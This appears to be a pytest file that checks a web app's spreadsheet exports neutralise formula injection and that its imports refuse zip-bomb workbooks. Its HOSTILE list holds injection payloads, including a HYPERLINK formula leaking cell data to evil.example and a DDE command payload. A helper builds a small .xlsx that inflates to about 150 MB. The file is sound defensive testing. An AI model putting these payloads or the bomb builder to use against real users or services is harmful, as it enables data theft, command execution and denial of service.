"""Spreadsheets in and out: text anyone typed comes back out of every export as text (never a formula),
and an .xlsx that would inflate to hundreds of megabytes is refused before it is parsed."""

from __future__ import annotations

import io
import re
import time
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.services.documents import sheets
from app.services.indicators import framework_sheet, frameworks
from tests.conftest import pin_today

API = "/api/v1"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A3,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
SEED = Path(__file__).resolve().parents[1] / "data" / "frameworks"


def _cells(raw: bytes) -> list:
    book = load_workbook(io.BytesIO(raw))  # not data_only: a formula would show as data_type "f"
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_text(raw: bytes, *expected: str) -> None:
    cells = _cells(raw)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in expected:
        found = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert found, f"{text!r} missing from the export"
        assert all(c.data_type == "s" for c in found)
        assert all(c.quotePrefix for c in found if c.value.startswith(sheets.FORMULA_START))


def test_the_cell_writer_keeps_every_dangerous_start_as_text() -> None:
    wb = sheets.workbook()
    ws = sheets.sheet(wb, "t")
    sheets.header(ws, "=标题", (("=列", 10), ("+列", 10)))
    values = [*HOSTILE, "\tTAB", "\rCR", "#N/A", "正常\x00文字\x1b"]
    sheets.row(ws, values)
    back = load_workbook(io.BytesIO(sheets.to_bytes(wb)))["t"]
    assert [c.data_type for c in back[3]] == ["s"] * len(values)
    assert [c.value for c in back[3]][:5] == [*HOSTILE, "\tTAB"]
    assert back["A1"].value == "=标题" and back["A1"].data_type == "s" and back["A2"].data_type == "s"
    assert back.cell(row=3, column=8).value == "正常文字"  # control characters cannot break the file


def test_no_module_but_sheets_writes_cells() -> None:
    app = Path(__file__).resolve().parents[1] / "app"
    imports = re.compile(r"^\s*(from|import) openpyxl\b", re.M)
    writers = [p for p in app.rglob("*.py") if imports.search(p.read_text(encoding="utf-8"))]
    assert writers == [app / "services" / "documents" / "sheets.py"]
    for path in app.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for name in re.findall(r"(\w+) = sheets\.sheet\(", text):
            # A sheet is filled only through sheets.header and sheets.row (which go through sheets.put).
            assert not re.search(rf"\b{name}(\.append\(|\.cell\(|\[)", text), (path, name)


def test_framework_titles_and_cells_round_trip_as_text() -> None:
    doc = frameworks.parse((SEED / "lingchuan-2021.json").read_bytes())
    doc = doc.model_copy(update={"name": HOSTILE[0], "notes": [HOSTILE[1]]})
    raw = framework_sheet.write(doc)
    _assert_text(raw, HOSTILE[0], HOSTILE[1])
    assert framework_sheet.read(raw) == doc


def test_every_export_writes_what_users_typed_as_text(client, app, world, session) -> None:
    office, county = world.auth("gp-office"), world.ids["gp_county"]
    unit = client.post(f"{API}/counties/{county}/units", json={"name": HOSTILE[0], "kind": "other"}, headers=office)
    assert unit.status_code == 201, unit.text
    units = client.get(f"{API}/counties/{county}/units.xlsx", headers=office)
    assert units.status_code == 200
    _assert_text(units.content, HOSTILE[0])

    pin_today(app, date(2023, 2, 10))
    mine = client.get(f"{API}/me/assignments", params={"limit": 500}, headers=world.auth("gp-sfj")).json()["items"]
    target = next(a for a in mine if a["status"] == "not_started")
    ev = client.post(
        f"{API}/assignments/{target['id']}/evidence",
        json={"kind": "statement", "text": "情况说明", "title": HOSTILE[1]},
        headers=world.auth("gp-sfj"),
    )
    assert ev.status_code == 201, ev.text
    reviewed = client.post(
        f"{API}/evidence/{ev.json()['id']}/reviews",
        json={"decision": "approve", "version": 1, "comment": HOSTILE[2]},
        headers=office,
    )
    assert reviewed.status_code == 201, reviewed.text
    ledger = client.get(f"{API}/campaigns/{world.ids['gp_campaign']}/ledger.xlsx", headers=office)
    assert ledger.status_code == 200
    _assert_text(ledger.content, HOSTILE[2])

    package = client.get(f"{API}/campaigns/{world.ids['gp_campaign']}/evidence-package.zip", headers=office)
    assert package.status_code == 200
    _assert_text(zipfile.ZipFile(io.BytesIO(package.content)).read("index.xlsx"), HOSTILE[1])

    rnd = client.post(f"{API}/campaigns/{world.ids['gp_campaign']}/rounds", json={"name": HOSTILE[3]}, headers=office)
    assert rnd.status_code == 201, rnd.text
    campaign = client.get(f"{API}/campaigns/{world.ids['gp_campaign']}", headers=office).json()
    item = client.get(
        f"{API}/frameworks/{campaign['framework_id']}/items", params={"limit": 500}, headers=office
    ).json()["items"][0]
    scored = client.post(
        f"{API}/rounds/{rnd.json()['id']}/scores",
        json={"scores": [{"item_id": item["id"], "points": 1, "comment": HOSTILE[0]}]},
        headers=office,
    )
    assert scored.status_code == 201, scored.text
    sheet = client.get(f"{API}/rounds/{rnd.json()['id']}/report.xlsx", headers=office)
    assert sheet.status_code == 200, sheet.text
    _assert_text(sheet.content, HOSTILE[3], HOSTILE[0])


def _bomb(rows: int = 600_000) -> bytes:
    """A real workbook whose sheet XML inflates to ~150 MB from well under a megabyte."""
    wb = Workbook()
    out = io.BytesIO()
    wb.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                z.writestr(info.filename, source.read(info))
                continue
            with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
                member.write(
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                )
                row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"x" * 200 + b"</t></is></c></row>"
                for _ in range(rows // 1000):
                    member.write(row * 1000)
                member.write(b"</sheetData></worksheet>")
    return bomb.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return _bomb()


def test_a_zip_bomb_is_refused_before_parsing(client, world, bomb) -> None:
    inflated = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
    assert len(bomb) < 1024 * 1024 and inflated > 150_000_000
    for url, who, code in (
        (f"{API}/counties/{world.ids['gp_county']}/units/import", "gp-office", "units_invalid_too_big"),
        (f"{API}/frameworks", "sysadmin", "framework_invalid_too_big"),
    ):
        started = time.perf_counter()
        r = client.post(url, files={"file": ("名单.xlsx", bomb, XLSX)}, headers=world.auth(who))
        elapsed = time.perf_counter() - started
        assert r.status_code == 422 and r.json()["code"] == code, r.text
        assert "超出导入上限" in r.json()["detail"]
        assert elapsed < 0.5, elapsed


def test_many_small_rows_are_refused_by_the_row_cap() -> None:
    wb = Workbook()
    ws = wb.active
    for n in range(sheets.MAX_ROWS + 5):
        ws.append([n])
    out = io.BytesIO()
    wb.save(out)
    started = time.perf_counter()
    with pytest.raises(sheets.Invalid) as refused:
        sheets.open_workbook(out.getvalue(), code="units_invalid")
    assert refused.value.code == "units_invalid_too_big" and "行" in refused.value.message
    assert time.perf_counter() - started < 0.5
    small = Workbook()
    small.active.append(["单位名称"])
    out = io.BytesIO()
    small.save(out)
    assert sheets.open_workbook(out.getvalue(), code="units_invalid").active["A1"].value == "单位名称"
